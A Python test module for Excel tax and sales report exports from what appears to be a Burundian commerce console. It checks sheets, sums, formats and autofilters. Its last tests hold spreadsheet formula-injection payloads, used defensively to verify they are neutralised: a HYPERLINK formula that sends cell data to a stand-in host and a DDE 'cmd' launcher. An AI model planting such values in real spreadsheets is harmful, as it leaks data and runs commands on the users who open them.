"""Excel reports read back with openpyxl: every line, exact sums, formats, no live formulas."""

from __future__ import annotations

import inspect
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from console import models as m
from console.services.spreadsheet_cells import neutralise
from reports.excel import NUMBER_FORMATS
from reports.parameters import parse_period
from reports.verification import display_code

from .reports_fixtures import (
    COORDINATOR_PROVINCE,
    PERIOD,
    fetch_report,
    latest_archive,
    login_as,
    sales_sums,
    seeded_app_fixture,
)

FRANCS_FORMAT = NUMBER_FORMATS["francs"]


# This module's app: its own copy of the seeded reports database (replaces conftest's).
app = seeded_app_fixture()


@pytest.fixture(scope="module")
def tax_workbook(app):
    """The national tax statement workbook, requested by the OBR auditor."""
    client = app.test_client()
    login_as(client, "auditeur")
    content = fetch_report(
        app, client, "auditeur", "recettes-fiscales", period=PERIOD, province="", format="xlsx"
    )
    return load_workbook(BytesIO(content)), latest_archive(app, "auditeur")


def _period_filter():
    period = parse_period(PERIOD)
    return (m.Order.placed_at >= period.utc_start, m.Order.placed_at < period.utc_end)


def _header_index(ws) -> dict[str, int]:
    return {cell.value: index for index, cell in enumerate(ws[1])}


def test_tax_workbook_has_a_sheet_per_section_and_parameters_first(tax_workbook):
    wb, archive = tax_workbook
    assert wb.sheetnames == ["Paramètres", "Par vendeur", "Signalements", "Lignes de commande"]
    parameters = {row[0]: row[1] for row in wb["Paramètres"].iter_rows(values_only=True) if row[0]}
    assert "République du Burundi" in parameters
    assert parameters["Code de vérification"] == display_code(archive.code)
    assert parameters["Rapport"] == "Relevé des recettes fiscales"
    assert parameters["Généré par"] == "auditeur"


def test_tax_workbook_carries_every_order_line_of_the_period(tax_workbook, db_session):
    ws = tax_workbook[0]["Lignes de commande"]
    expected = db_session.scalar(
        select(func.count()).select_from(m.OrderLine).join(m.Order).where(*_period_filter())
    )
    assert expected > 0
    assert ws.max_row - 1 == expected
    assert tax_workbook[1].row_count >= expected


def test_tax_workbook_line_sums_equal_the_database_sums(tax_workbook, db_session):
    ws = tax_workbook[0]["Lignes de commande"]
    col = _header_index(ws)
    gross = tax = 0
    for row in ws.iter_rows(min_row=2, values_only=True):
        if row[col["Statut"]] != m.OrderStatus.CANCELLED.label:
            gross += row[col["Montant TTC"]]
            tax += row[col["Taxe"]]
    assert (gross, tax) == sales_sums(db_session)


def test_tax_workbook_seller_totals_equal_the_database_sums(tax_workbook, db_session):
    ws = tax_workbook[0]["Par vendeur"]
    col = _header_index(ws)
    total = next(row for row in ws.iter_rows(min_row=2, values_only=True) if row[0] == "TOTAL")
    collected = db_session.scalar(
        select(func.sum(m.Payment.tax_amount))
        .join(m.Order)
        .where(*_period_filter(), m.Order.status != m.OrderStatus.CANCELLED)
    )
    gross, tax = sales_sums(db_session)
    assert total[col["Ventes TTC"]] == gross
    assert total[col["Taxe due"]] == tax
    assert total[col["Taxe encaissée"]] == collected


def test_tax_workbook_money_cells_are_whole_francs_with_the_franc_format(tax_workbook):
    ws = tax_workbook[0]["Lignes de commande"]
    col = _header_index(ws)
    for row in ws.iter_rows(min_row=2, max_row=50):
        for name in ("Prix unitaire", "Montant HT", "Taxe", "Montant TTC"):
            cell = row[col[name]]
            assert isinstance(cell.value, int)
            assert cell.number_format == FRANCS_FORMAT
        assert row[col["Date (Bujumbura)"]].number_format == NUMBER_FORMATS["datetime"]


def test_every_data_sheet_freezes_its_header_and_has_an_autofilter(tax_workbook):
    wb = tax_workbook[0]
    for name in wb.sheetnames[1:]:
        ws = wb[name]
        assert ws.freeze_panes == "A2", name
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), name
        assert ws.column_dimensions["A"].width >= 10, name
    lines = wb["Lignes de commande"]
    assert lines.auto_filter.ref == f"A1:S{lines.max_row}"


def test_sales_workbook_province_sheet_sums_to_the_database_sums(app, client, db_session):
    login_as(client, "coord")
    content = fetch_report(
        app,
        client,
        "coord",
        "ventes-mensuel",
        period=PERIOD,
        province=COORDINATOR_PROVINCE,
        format="xlsx",
    )
    wb = load_workbook(BytesIO(content))
    rows = list(wb["Par province"].iter_rows(min_row=2, values_only=True))
    assert (sum(r[1] for r in rows), sum(r[2] for r in rows)) == sales_sums(
        db_session, province_code=COORDINATOR_PROVINCE
    )
    assert {"Chiffres clés", "Par filière", "Meilleurs vendeurs", "Mévente"} <= set(wb.sheetnames)


def test_annual_tax_workbook_has_one_row_per_seller_summing_the_year(app, db_session, tmp_path):
    output = tmp_path / "annuel.xlsx"
    result = app.test_cli_runner().invoke(
        args=[
            "report",
            "recettes-fiscales",
            "--period",
            "2024",
            "--format",
            "xlsx",
            "--output",
            str(output),
        ]
    )
    assert result.exit_code == 0, result.output
    ws = load_workbook(output)["Par vendeur"]
    col = _header_index(ws)
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    total_at = next(i for i, row in enumerate(rows) if row[0] == "TOTAL")
    sellers = [row[col["N° d'enregistrement"]] for row in rows[:total_at]]
    assert len(sellers) == len(set(sellers)) > 0
    year = parse_period("2024")
    due = db_session.scalar(
        select(func.sum(m.OrderLine.tax))
        .join(m.Order)
        .where(
            m.Order.placed_at >= year.utc_start,
            m.Order.placed_at < year.utc_end,
            m.Order.status != m.OrderStatus.CANCELLED,
        )
    )
    assert rows[total_at][col["Taxe due"]] == due > 0
    assert all(row[col["Période"]] == "année 2024" for row in rows[:total_at])


def test_order_lines_are_streamed_not_loaded(app):
    from reports.definitions.tax_statement import order_lines

    assert inspect.isgeneratorfunction(order_lines)


@pytest.mark.parametrize("text", ["=1+1", "+33 6", "-2", "@SUM(A1)", "\tcmd", "\r=x"])
def test_text_that_would_start_a_formula_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Coopérative Twiyungunganye", "", "1 234", "a=b"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def test_hostile_names_come_out_as_plain_text_never_formulas(app, client, db_session):
    """A seller or product named like a formula is written as text with a leading quote."""
    seller_id, product_id = db_session.execute(
        select(m.Order.seller_id, m.OrderLine.product_id)
        .join(m.OrderLine)
        .where(*_period_filter())
        .limit(1)
    ).one()
    hostile_seller = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
    hostile_product = "@SUM(1+1)*cmd|' /C calc'!A0"
    db_session.execute(
        update(m.Cooperative).where(m.Cooperative.id == seller_id).values(name=hostile_seller)
    )
    db_session.execute(
        update(m.Product).where(m.Product.id == product_id).values(name=hostile_product)
    )
    db_session.commit()
    login_as(client, "ministere")
    content = fetch_report(
        app, client, "ministere", "recettes-fiscales", period=PERIOD, province="", format="xlsx"
    )
    wb = load_workbook(BytesIO(content))
    values = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (
                    f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                )
                values.add(cell.value)
    assert "'" + hostile_seller in values
    assert "'" + hostile_product in values
